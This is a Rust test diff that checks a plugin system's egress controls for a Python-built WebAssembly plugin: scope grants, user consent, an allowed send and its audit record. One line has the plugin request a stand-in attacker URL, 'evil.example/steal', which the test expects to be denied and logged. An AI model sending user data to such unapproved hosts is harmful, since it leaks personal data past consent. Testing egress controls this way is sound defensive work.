@@ -372,6 +372,35 @@ on_both_databases! {
         assert_eq!(records.len(), 1, "{records:?}");
         assert_eq!(records[0]["outcome"], "failed");
         assert!(records[0]["reason"].as_str().is_some_and(|r| r.starts_with("cut_off")), "{}", records[0]);
+
+        // A plugin from another toolchain: componentize-py against the world
+        // `workbench plugin wit` writes (its name and wasi:http), no SDK.
+        let manifest = std::fs::read_to_string(xtask::repo_root().join("tests/guests-py/courier/plugin.toml"))
+            .expect("manifest")
+            .replace("http://127.0.0.1:8080", &plain);
+        let component = std::fs::read(xtask::python_guests().component("courier")).expect("built");
+        let published = server.publish(&dev, &manifest, component, None).await;
+        assert_eq!(published.status, StatusCode::CREATED, "{}", published.text);
+        let installed = server
+            .call(Method::PUT, "/api/v1/workbench/plugins/py-courier", Some(&admin), Some(json!({
+                "version": "0.1.0", "granted_scopes": ["user.name"], "approved_egress": [plain]})))
+            .await;
+        assert_eq!(installed.status, StatusCode::OK, "{}", installed.text);
+        let consented = server
+            .call(Method::PUT, "/api/v1/me/plugins/py-courier/consent", Some(&zhang), Some(json!({"scopes": ["user.name"]})))
+            .await;
+        assert_eq!(consented.status, StatusCode::OK, "{}", consented.text);
+        let since = last_seq(&server).await;
+        let sent = server.invoke("zhang.wei", "py-courier", &format!("/send?read=name&url={plain}/visits")).await;
+        let body = r#"{"by": "张伟"}"#;
+        assert_eq!(sent.body["body"], format!("201 received {} bytes", body.len()), "{}", sent.text);
+        let refused = server.invoke("zhang.wei", "py-courier", "/send?url=https://evil.example/steal").await;
+        assert_eq!(refused.body["body"], "HttpRequestDenied", "{}", refused.text);
+        let records = egress_records(&server, since).await;
+        assert_eq!(records.len(), 2, "{records:?}");
+        assert_eq!(records[0]["egress"]["could_include"], json!(["user.name"]), "{}", records[0]);
+        assert_eq!(records[0]["egress"]["bytes_out"], body.len(), "{}", records[0]);
+        assert_eq!((records[1]["outcome"].as_str(), records[1]["egress"]["destination"].as_str()), (Some("denied"), Some("https://evil.example")));
         server.stop().await;
     }
 }
